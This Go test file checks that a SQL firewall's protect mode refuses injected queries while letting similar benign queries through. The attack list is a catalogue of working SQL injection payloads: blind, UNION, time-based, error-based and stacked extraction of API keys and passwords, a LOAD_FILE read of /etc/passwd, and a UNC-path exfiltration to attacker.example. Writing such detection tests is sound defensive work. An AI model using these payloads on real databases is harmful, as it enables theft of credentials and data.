package policy

import (
	"context"
	"testing"
)

// Injected statements that extract data, each refused in protect mode
// beside the benign statements of the same shape that must pass.
func TestFirewallExtraction(t *testing.T) {
	p := protectPolicy(t, "log")
	const pg, my, both = 1, 2, 3
	attacks := []struct {
		dialects int
		sql      string
	}{
		// boolean-blind character extraction
		{pg, "SELECT id, name FROM users WHERE id = 1 AND ASCII(SUBSTRING((SELECT api_key FROM api_keys LIMIT 1)::text FROM 3 FOR 1)) > 104"},
		{both, "SELECT id, name FROM users WHERE id = 1 AND ascii(substr((SELECT api_key FROM api_keys LIMIT 1), 1, 1)) > 104"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND ORD(MID((SELECT IFNULL(CAST(api_key AS CHAR), 0x20) FROM api_keys LIMIT 0,1), 3, 1)) > 104"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND ORD(MID((SELECT api_key FROM api_keys LIMIT 1), 3, 1))"},
		{both, "SELECT id, name FROM users WHERE id = 1 AND length((SELECT api_key FROM api_keys LIMIT 1)) BETWEEN 10 AND 20"},
		{both, "SELECT id, name FROM users WHERE id = 1 AND (SELECT substr(api_key, 1, 1) FROM api_keys LIMIT 1) = 'a'"},
		{both, "SELECT id, name FROM users WHERE id = 1 AND ascii(substring(version(), 1, 1)) = 53"},
		{pg, "SELECT id, name FROM users WHERE id = 1 AND substring(current_user, 1, 1) = 'p'"},
		{pg, "SELECT id, name FROM users WHERE name = '' OR current_user = 'postgres' -- '"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND database() LIKE 'f%'"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND hex(substring(@@version, 1, 1)) = '31'"},
		{both, "SELECT id, name FROM users WHERE id = 1 AND CASE WHEN ascii(substr((SELECT api_key FROM api_keys LIMIT 1), 1, 1)) > 64 THEN 1 ELSE 0 END = 1"},
		// UNION dumps
		{both, "SELECT id, name FROM users WHERE id = 1 UNION SELECT NULL, api_key FROM api_keys"},
		{both, "SELECT id, name FROM users WHERE id = 1 UNION ALL SELECT owner, api_key FROM api_keys"},
		{both, "SELECT id, name FROM users WHERE id = -1 UNION SELECT 1, (SELECT api_key FROM api_keys LIMIT 1) FROM users"},
		{both, "SELECT id, name FROM users WHERE id = -1 UNION SELECT id, password FROM users"},
		// strings from character codes
		{pg, "SELECT id, name FROM users WHERE name = CHR(97)||CHR(100)||CHR(109)"},
		{my, "SELECT id, name FROM users WHERE name = CHAR(97, 100, 109)"},
		{my, "SELECT id, name FROM users WHERE name = CONCAT(0x61, 0x64, CHAR(109))"},
		// stacked statements after a benign one
		{both, "SELECT id, name FROM users WHERE id = 1; SELECT api_key FROM api_keys"},
		{both, "SELECT id, name FROM users WHERE id = 1; UPDATE users SET name = 'x'"},
		{pg, "SELECT id, name FROM users WHERE id = 1; SELECT version()"},
		// time-based
		{pg, "SELECT id, name FROM users WHERE id = 1 AND 1 = (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END FROM pg_sleep(5))"},
		{pg, "SELECT id, name FROM users WHERE id = 1 AND (CASE WHEN ascii(substr((SELECT api_key FROM api_keys LIMIT 1),1,1)) > 64 THEN pg_sleep(5) ELSE NULL END) IS NULL"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND IF(ord(mid((SELECT api_key FROM api_keys LIMIT 1),1,1)) > 64, SLEEP(5), 0)"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND BENCHMARK(5000000, MD5('a'))"},
		// error-based
		{my, "SELECT id, name FROM users WHERE id = 1 AND extractvalue(1, concat(0x7e, (SELECT api_key FROM api_keys LIMIT 1)))"},
		{my, "SELECT id, name FROM users WHERE id = 1 AND updatexml(1, concat(0x7e, version()), 1)"},
		{pg, "SELECT id, name FROM users WHERE id = 1 AND 1 = CAST((SELECT api_key FROM api_keys LIMIT 1) AS int)"},
		{pg, "SELECT id, name FROM users WHERE id = 1 AND 1 = (SELECT api_key FROM api_keys LIMIT 1)::int"},
		{pg, "SELECT id, name FROM users WHERE id = CAST(version() AS numeric)"},
		// out of band
		{my, "SELECT id, name FROM users WHERE id = 1 AND LOAD_FILE(CONCAT('\\\\\\\\', (SELECT api_key FROM api_keys LIMIT 1), '.attacker.example\\\\x'))"},
		{my, "SELECT id, name FROM users WHERE id = 1 UNION SELECT 1, LOAD_FILE('/etc/passwd')"},
	}
	for _, a := range attacks {
		for _, d := range []Dialect{Postgres, MySQL} {
			if d == Postgres && a.dialects&pg == 0 || d == MySQL && a.dialects&my == 0 {
				continue
			}
			dec := p.Check(context.Background(), Request{User: "app", Database: "db", Dialect: d, SQL: a.sql})
			if dec.Denial == nil {
				t.Errorf("%s: allowed: %s", d, a.sql)
			} else if dec.Denial.Rule == RuleParse {
				t.Errorf("%s: not parsed (%s): %s", d, dec.Denial.Message, a.sql)
			}
		}
	}
	benign := []struct {
		dialects int
		sql      string
	}{
		{both, "SELECT id, name FROM users WHERE substr(name, 1, 1) = 'a'"},
		{both, "SELECT id, name FROM users WHERE length(name) > 3 AND lower(email) LIKE '%@example.com'"},
		{both, "SELECT id FROM users u WHERE (SELECT count(*) FROM orders o WHERE o.user_id = u.id) > 5"},
		{both, "SELECT id FROM users WHERE id = (SELECT max(user_id) FROM orders)"},
		{both, "SELECT id, name FROM customers UNION ALL SELECT id, name FROM suppliers"},
		{both, "SELECT 'customer' AS kind, id, name FROM customers UNION ALL SELECT 'supplier', id, name FROM suppliers"},
		{both, "SELECT id, name FROM customers WHERE id > 10 UNION SELECT c.id, c.name FROM customers c JOIN orders o ON o.customer_id = c.id"},
		{pg, "SELECT id FROM documents WHERE owner = current_user"},
		{pg, "SELECT first_name || ' ' || last_name AS full_name FROM users WHERE id = 3"},
		{pg, "SELECT id FROM users WHERE name = 'a' || chr(10) || 'b'"},
		{my, "SELECT CONCAT(first_name, ' ', last_name) AS full_name FROM users WHERE id = 3"},
		{my, "SELECT id FROM users WHERE name = CHAR(65)"},
		{pg, "SELECT CAST((SELECT count(*) FROM orders) AS int) AS n"},
		{both, "INSERT INTO audit (msg) VALUES ('a'); INSERT INTO audit (msg) VALUES ('b')"},
		{both, "UPDATE users SET name = 'x' WHERE id = 1; COMMIT"},
	}
	for _, b := range benign {
		for _, d := range []Dialect{Postgres, MySQL} {
			if d == Postgres && b.dialects&pg == 0 || d == MySQL && b.dialects&my == 0 {
				continue
			}
			if dec := p.Check(context.Background(), Request{User: "app", Database: "db", Dialect: d, SQL: b.sql}); dec.Denial != nil {
				t.Errorf("%s: refused (%s): %s", d, dec.Denial.Message, b.sql)
			}
		}
	}
}
